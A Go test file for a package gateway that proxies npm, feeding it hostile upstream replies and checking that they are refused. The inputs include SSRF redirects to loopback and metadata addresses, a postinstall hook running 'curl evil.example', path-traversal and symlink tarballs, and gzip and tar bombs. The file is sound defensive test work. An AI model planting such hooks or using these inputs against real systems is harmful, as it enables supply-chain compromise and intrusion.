package gateway_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cofferdam-dev/cofferdam/internal/decide/door"
	"github.com/cofferdam-dev/cofferdam/internal/decide/pkgref"
	"github.com/cofferdam-dev/cofferdam/internal/decide/policy"
	"github.com/cofferdam-dev/cofferdam/internal/packages/ecosystem"
	"github.com/cofferdam-dev/cofferdam/internal/packages/ecosystem/npm/npmtest"
	"github.com/cofferdam-dev/cofferdam/internal/packages/upstream"
	"github.com/cofferdam-dev/cofferdam/internal/packages/upstream/liar"
)

// TestNodeLyingPages is G-IN-05, -07, -08, ways 17, 18, 27 and 28 for
// packuments: one that can't be read in exactly one way is nobody's, and neither
// is a tarball that only it lists; nothing is kept, and the truth is taken at once.
func TestNodeLyingPages(t *testing.T) {
	foo := npmtest.Pack(t, "foo", "1.0.0", nil)
	foo.URL = "https://index.example/foo/-/foo-1.0.0.tgz"
	page := string(npmtest.Packument(t, "foo", nil, foo))
	json := func(s string) liar.Reply { return liar.Body(npmtest.Type, []byte(s)) }
	inside := func(s string) liar.Reply { return json(strings.Replace(page, `"versions":{`, s+`"versions":{`, 1)) }
	for name, reply := range map[string]liar.Reply{
		"html":                   liar.Body(npmtest.Type, []byte("<html>log in</html>")),
		"captive page":           liar.Body("text/html", []byte(`<html><a href="/login">log in</a></html>`)),
		"the page as text":       liar.Body("text/plain", []byte(page)),
		"duplicate key":          inside(`"name":"foo",`),
		"duplicate, escaped":     inside(`"n\u0061me":"foo",`),
		"duplicate version":      json(strings.Replace(page, `"versions":{`, `"versions":{"1.0.0":{},`, 1)),
		"deep nesting":           json(strings.Repeat(`{"a":`, 100_000)),
		"deep, closed":           inside(`"x":` + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + ","),
		"invalid utf-8":          inside("\"x\":\"\xff\","),
		"bom":                    json("\xef\xbb\xbf" + page),
		"utf-16":                 json("\xff\xfe{\x00}\x00"),
		"something behind":       json(page + page),
		"another name":           json(strings.ReplaceAll(page, `"name":"foo"`, `"name":"bar"`)),
		"an error":               json(`{"error":"not_found"}`),
		"gzip bomb":              liar.Bomb(npmtest.Type, 9<<20),
		"gzip twice":             liar.Gzip(npmtest.Type, []byte(page), 2),
		"10^6 versions":          liar.Stream(npmtest.Type, manyManifests),
		"500 MB":                 liar.Stream(npmtest.Type, func(int) []byte { return bytes.Repeat([]byte(" "), 1<<20) }),
		"206":                    liar.Partial(npmtest.Type, []byte(page)),
		"short body":             liar.Claim(npmtest.Type, len(page)+1, []byte(page)),
		"chunked, cut":           liar.Chunked(npmtest.Type, []byte(page)),
		"drip":                   liar.Drip(npmtest.Type, 1<<20, 5*time.Millisecond),
		"silence":                liar.Silence(),
		"500":                    liar.Status(500),
		"429":                    liar.Busy(429, 3600),
		"401":                    liar.Status(401),
		"304":                    liar.Status(304),
		"to elsewhere":           liar.Redirect("https://evil.example/foo"),
		"to loopback":            liar.Redirect("http://127.0.0.1/"),
		"to a metadata service":  liar.Redirect("http://169.254.169.254/latest/"),
		"does not exist":         liar.Status(404),
		"every release left out": json(strings.ReplaceAll(page, `"version":"1.0.0"`, `"version":"1.0.1"`)),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := newNodeBench(t, func(b *bench, _ *upstream.Config) { slowly(&b.cfg, name) })
			b.nodePublish(indexHost, nil, foo)
			b.registry.Script(indexHost+"/foo", reply)
			refusedWithRecord(t, b, b.get("/foo"), 0)
			refusedWithRecord(t, b, b.get(foo.Path()), 1)
			if b.registry.Count("evil.example/foo")+b.registry.Count(indexHost+foo.Path()) != 0 {
				t.Error("the evil host, or a file that no page lists, was asked for")
			}
			b.nodePublish(indexHost, nil, foo) // positive control: the truth is taken at once
			for _, path := range []string{"/foo", foo.Path()} {
				if a := b.get(path); a.StatusCode != 200 {
					t.Errorf("after the lie, %s: %s", path, status(a))
				}
			}
		})
	}
}

// manyManifests is a packument of a million releases, a thousand at a time.
func manyManifests(i int) []byte {
	if i > 1000 {
		return nil
	}
	var b bytes.Buffer
	if i == 0 {
		b.WriteString(`{"name":"foo","versions":{`)
	}
	for n := range 1000 {
		fmt.Fprintf(&b, `"%d.%d.0":{},`, i, n)
	}
	return b.Bytes()
}

// TestNodeForeignTarballs is G-SS-01 and way 19: a tarball elsewhere is never
// asked for, and its release is on no page; another release still is.
func TestNodeForeignTarballs(t *testing.T) {
	var visits atomic.Int64
	canary := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { visits.Add(1) }))
	t.Cleanup(canary.Close)
	const at = "/foo/-/foo-1.0.0.tgz"
	for _, link := range []string{
		canary.URL + at, strings.Replace(canary.URL, "127.0.0.1", "localhost", 1) + at, strings.Replace(canary.URL, "127.0.0.1", "[::ffff:127.0.0.1]", 1) + at,
		strings.Replace(canary.URL, "127.0.0.1", "2130706433", 1) + at, strings.Replace(canary.URL, "127.0.0.1", "0x7f.1", 1) + at,
		"https://169.254.169.254" + at, "https://[fe80::1]" + at, "https://10.0.0.1" + at, "https://evil.example" + at, "//evil.example" + at,
		"http://index.example" + at, "https://index.example:1" + at, "https://user:pw@index.example" + at, "https://index.example@evil.example" + at,
		"file://" + at, "gopher://index.example" + at, "unix:/run/x.sock" + at, "git+ssh://index.example" + at, "javascript:alert(1)", "",
		"https://index.example/bar/-/bar-1.0.0.tgz", "https://index.example/foo/-/foo-2.0.0.tgz", "https://index.example/foo/-/../../foo/-/foo-1.0.0.tgz",
		"https://index.example/foo%2f-%2ffoo-1.0.0.tgz", "https://index.example" + at + "?to=https://evil.example/", "https://index.example/-/foo-1.0.0.tgz",
	} {
		t.Run(link, func(t *testing.T) {
			t.Parallel()
			b := newNodeBench(t, nil)
			foo, two := npmtest.Pack(t, "foo", "1.0.0", nil), npmtest.Pack(t, "foo", "2.0.0", nil)
			b.nodePublish(indexHost, func(page string) string {
				return strings.Replace(page, b.registry.URL(indexHost, at), link, 1)
			}, foo, two)
			asked := len(b.registry.Requests())
			for _, accept := range []string{"", corgi} {
				a := b.get("/foo", "Accept", accept)
				if a.StatusCode != 200 || strings.Contains(a.body, `"1.0.0":`) && !strings.Contains(link, "?") || strings.Contains(a.body, "evil") || strings.Contains(a.body, "pw@") {
					t.Errorf("the page: %s", status(a))
				}
			}
			if a := b.get(at); a.StatusCode == 200 && !strings.Contains(link, "?") {
				t.Errorf("the file: %s", status(a))
			}
			for _, r := range b.registry.Requests()[asked:] {
				if r.Host != indexHost || r.Path != "/foo" && r.Path != at {
					t.Errorf("a request went to %s%s", r.Host, r.Path)
				}
			}
			if a := b.get(two.Path()); a.StatusCode != 200 { // positive control
				t.Errorf("the other release: %s", status(a))
			}
		})
	}
	t.Cleanup(func() {
		if visits.Load() != 0 {
			t.Errorf("the gateway visited a service of its own host %d times", visits.Load())
		}
	})
}

// TestNodeChangedBytes is G-IN-01 and -02 and ways 21 and 23: what a release was
// when it was first had is what it is for ever, and no weaker digest will do.
func TestNodeChangedBytes(t *testing.T) {
	one := npmtest.Pack(t, "foo", "1.0.0", nil)
	evil := npmtest.Pack(t, "foo", "1.0.0", nil, [2]string{"evil.js", "evil"})
	integrity := func(with string) func(string) string {
		return func(page string) string {
			return strings.Replace(page, `"integrity":"`+one.Integrity()+`"`, with, 1)
		}
	}
	evilIntegrity := func(page string) string {
		return strings.NewReplacer(one.Integrity(), evil.Integrity(), one.Shasum(), evil.Shasum()).Replace(page)
	}
	for name, c := range map[string]struct {
		edit  func(string) string // of the page, later
		bytes []byte              // of the file, later
		says  string
	}{
		"other bytes, and the index says so": {evilIntegrity, evil.Bytes, "not the one that it had when it was first seen"},
		"other integrity, same bytes":        {evilIntegrity, one.Bytes, "not the one that it had when it was first seen"},
		"no integrity any more":              {integrity(`"x":0`), one.Bytes, "gave a stronger digest"},
		"an empty integrity":                 {integrity(`"integrity":""`), evil.Bytes, "gave a stronger digest"},
		"sha1 only":                          {integrity(`"integrity":"sha1-` + sha1Base64(evil) + `"`), evil.Bytes, "gave a stronger digest"},
		"another algorithm":                  {integrity(`"integrity":"sha256-` + sha256Base64(evil.Bytes) + `"`), evil.Bytes, "not the one that it had when it was first seen"},
		"weak and strong, of other bytes":    {integrity(`"integrity":"sha1-` + sha1Base64(one) + " " + evil.Integrity() + `"`), evil.Bytes, "not the one that it had when it was first seen"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := newNodeBench(t, nil)
			b.nodePublish(indexHost, nil, one)
			if a := b.get(one.Path()); a.StatusCode != 200 || a.body != string(one.Bytes) {
				t.Fatal(status(a))
			}
			b.nodePublish(indexHost, c.edit, one)
			b.registry.Script(indexHost+one.Path(), liar.Body("application/octet-stream", c.bytes))
			for i := range 2 {
				a := b.get(one.Path())
				if a.StatusCode != http.StatusFailedDependency || !strings.Contains(a.Status, c.says) || len(b.door.Failures()) != i+1 {
					t.Errorf("%s; failures %v", status(a), b.door.Failures())
				}
				b.restart()
			}
			if n := len(b.door.Served()); n != 1 {
				t.Errorf("%d served", n)
			}
			b.nodePublish(indexHost, nil, one)
			if a := b.get(one.Path()); a.StatusCode != 200 || a.body != string(one.Bytes) {
				t.Errorf("the first again: %s", status(a))
			}
		})
	}
}

// TestNodeDigests is G-IN-02 and way 23 for what was never had: bytes are held
// to the strongest digest, and the door is told which that is.
func TestNodeDigests(t *testing.T) {
	foo := npmtest.Pack(t, "foo", "1.0.0", nil)
	evil := npmtest.Pack(t, "foo", "1.0.0", nil, [2]string{"evil.js", "evil"})
	flipped := bytes.Clone(foo.Bytes)
	flipped[len(flipped)/2] ^= 1
	for name, c := range map[string]struct {
		integrity string // JSON; "" leaves it out
		bytes     []byte
		digest    string // as the door is told
		served    bool
	}{
		"sha512":                     {`"` + foo.Integrity() + `"`, foo.Bytes, foo.Digest(), true},
		"sha512, other bytes":        {`"` + foo.Integrity() + `"`, evil.Bytes, foo.Digest(), false},
		"sha512, a flipped bit":      {`"` + foo.Integrity() + `"`, flipped, foo.Digest(), false},
		"sha512, short":              {`"` + foo.Integrity() + `"`, foo.Bytes[:len(foo.Bytes)-1], foo.Digest(), false},
		"sha512, nothing":            {`"` + foo.Integrity() + `"`, nil, foo.Digest(), false},
		"weak of these, strong not":  {`"sha1-` + sha1Base64(evil) + ` ` + foo.Integrity() + `"`, evil.Bytes, foo.Digest(), false},
		"weak and strong of these":   {`"sha1-` + sha1Base64(foo) + ` ` + foo.Integrity() + `"`, foo.Bytes, foo.Digest(), true},
		"strong of these, weak not":  {`"` + foo.Integrity() + ` sha1-` + sha1Base64(evil) + `"`, foo.Bytes, foo.Digest(), true},
		"shasum only":                {"", foo.Bytes, sha1Of(foo.Bytes), true},
		"shasum only, other bytes":   {"", evil.Bytes, sha1Of(foo.Bytes), false},
		"md5 and shasum":             {`"md5-AAAA"`, foo.Bytes, sha1Of(foo.Bytes), true},
		"two of one algorithm":       {`"` + foo.Integrity() + ` ` + evil.Integrity() + `"`, evil.Bytes, "", false},
		"a digest of another length": {`"sha512-AAAA"`, foo.Bytes, "", false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := newNodeBench(t, nil)
			with := `"integrity":` + c.integrity
			if c.integrity == "" {
				with = `"x":0`
			}
			b.nodePublish(indexHost, func(page string) string {
				return strings.Replace(page, `"integrity":"`+foo.Integrity()+`"`, with, 1)
			}, foo)
			b.registry.Script(indexHost+foo.Path(), liar.Body("application/octet-stream", c.bytes))
			a := b.get(foo.Path())
			if !c.served {
				refusedWithRecord(t, b, a, 0)
				return
			}
			if served := b.door.Served(); a.StatusCode != 200 || len(served) != 1 || served[0].File.Digest != c.digest || served[0].SHA256 != strings.TrimPrefix(sha256Of(c.bytes), "sha256:") {
				t.Errorf("%s; served %+v", status(a), served)
			}
		})
	}
	// The digest tells what policies with require_hashes do.
	b := newNodeBench(t, nil)
	b.nodePublish(indexHost, func(page string) string {
		return strings.Replace(page, `"integrity":"`+foo.Integrity()+`"`, `"x":0`, 1)
	}, foo)
	b.door.rule(func(_ pkgref.Ref, f door.File) policy.Decision {
		if !ecosystem.Strong(f.Digest) {
			return policy.Decision{Effect: policy.Deny, Reason: "no strong digest"}
		}
		return policy.Decision{Effect: policy.Allow}
	})
	for _, path := range []string{"/foo", foo.Path()} {
		if a := b.get(path); a.StatusCode != http.StatusForbidden || !strings.Contains(a.Status, "no strong digest") {
			t.Errorf("%s: %s", path, status(a))
		}
	}
	if b.registry.Count(indexHost+foo.Path()) != 0 {
		t.Error("a refused file was fetched")
	}
}

// TestNodeManifestsThatHide is G-PA-01, -03 and ways 9, 25 and 26: a tarball
// that does, requires or is something else than the registry's manifest says is
// nobody's, although its digest is right.
func TestNodeManifestsThatHide(t *testing.T) {
	packageJSON := func(more string) [2]string {
		return [2]string{"package/package.json", `{"name":"foo","version":"1.0.0"` + more + `}`}
	}
	pack := func(files ...[2]string) []byte { return npmtest.Tarball(t, files...) }
	for name, c := range map[string]struct {
		tarball []byte
		says    string // "" is served
	}{
		"nothing hidden":         {pack(packageJSON("")), ""},
		"a dependency":           {pack(packageJSON(`,"dependencies":{"evil":"1"}`)), "requires evil, and the registry's manifest does not say so"},
		"an optional dependency": {pack(packageJSON(`,"optionalDependencies":{"evil":"1"}`)), "requires evil"},
		"a git dependency":       {pack(packageJSON(`,"dependencies":{"evil":"git+ssh://evil.example/x"}`)), "requires evil"},
		"a postinstall":          {pack(packageJSON(`,"scripts":{"postinstall":"curl evil.example"}`)), "something runs when it is installed (postinstall)"},
		"a gyp file":             {pack(packageJSON(""), [2]string{"package/binding.gyp", "{}"}), "something runs when it is installed (binding.gyp)"},
		"a command":              {pack(packageJSON(`,"bin":{"npm":"x.js"}`)), "has a command that the registry's manifest does not say"},
		"another package":        {pack([2]string{"package/package.json", `{"name":"evil","version":"1.0.0"}`}), `about "evil"`},
		"another version":        {pack([2]string{"package/package.json", `{"name":"foo","version":"0.0.1"}`}), `the version "0.0.1"`},
		"said twice":             {pack([2]string{"package/package.json", `{"name":"foo","version":"1.0.0","scripts":{},"scripts":{"install":"x"}}`}), "one thing twice"},
		"two package.json":       {pack(packageJSON(""), packageJSON(`,"scripts":{"install":"x"}`)), "a file twice"},
		"two folders":            {pack(packageJSON(""), [2]string{"other/index.js", ""}), "two folders"},
		"cases":                  {pack(packageJSON(""), [2]string{"package/a.js", "1"}, [2]string{"package/A.js", "2"}), "in case"},
		"a way out":              {pack(packageJSON(""), [2]string{"package/../../evil", ""}), "leaves the archive"},
		"a link out":             {withLink(t, packageJSON(""), "../../.bashrc"), "link out of"},
		"no package.json":        {pack([2]string{"package/x", ""}), "no package.json"},
		"a bomb":                 {tarBomb(t, 128<<20), "times its size"},
		"no tarball":             {[]byte("PK\x03\x04"), "gzip"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := newNodeBench(t, nil)
			r := npmtest.Pack(t, "foo", "1.0.0", nil)
			r.Bytes = c.tarball
			b.nodePublish(indexHost, nil, r)
			a := b.get(r.Path())
			if name == "nothing hidden" { // positive control
				if a.StatusCode != 200 || len(b.door.Served()) != 1 {
					t.Error(status(a))
				}
				return
			}
			if a.StatusCode != http.StatusFailedDependency || !strings.Contains(a.Status, c.says) || len(b.door.Failures()) != 1 || len(b.door.Served()) != 0 || len(b.door.edges) != 0 {
				t.Errorf("%s; served %v, edges %v", status(a), b.door.Served(), b.door.edges)
			}
		})
	}
}

// withLink is a tarball with a symbolic link.
func withLink(tb testing.TB, file [2]string, to string) []byte {
	tb.Helper()
	return tarOf(tb, func(w *tar.Writer) {
		for _, h := range []*tar.Header{
			{Name: file[0], Size: int64(len(file[1])), Mode: 0o644}, {Typeflag: tar.TypeSymlink, Name: "package/link", Linkname: to},
		} {
			if err := w.WriteHeader(h); err != nil {
				tb.Fatal(err)
			}
			if h.Size > 0 {
				_, _ = io.WriteString(w, file[1])
			}
		}
	})
}

// tarBomb is some megabytes that unpack to size bytes.
func tarBomb(tb testing.TB, size int64) []byte {
	tb.Helper()
	return tarOf(tb, func(w *tar.Writer) {
		if err := w.WriteHeader(&tar.Header{Name: "package/zeros", Size: size, Mode: 0o644}); err != nil {
			tb.Fatal(err)
		}
		zeros := make([]byte, 1<<20)
		for range size >> 20 {
			if _, err := w.Write(zeros); err != nil {
				tb.Fatal(err)
			}
		}
	})
}

func tarOf(tb testing.TB, write func(*tar.Writer)) []byte {
	tb.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	write(w)
	if err := w.Close(); err != nil {
		tb.Fatal(err)
	}
	if err := z.Close(); err != nil {
		tb.Fatal(err)
	}
	return b.Bytes()
}

func sha1Base64(r npmtest.Release) string { return hexToBase64(r.Shasum()) }

func sha256Base64(data []byte) string {
	return hexToBase64(strings.TrimPrefix(sha256Of(data), "sha256:"))
}

func hexToBase64(s string) string {
	sum, err := hex.DecodeString(s)
	if err != nil {
		panic(err)
	}
	return base64.StdEncoding.EncodeToString(sum)
}
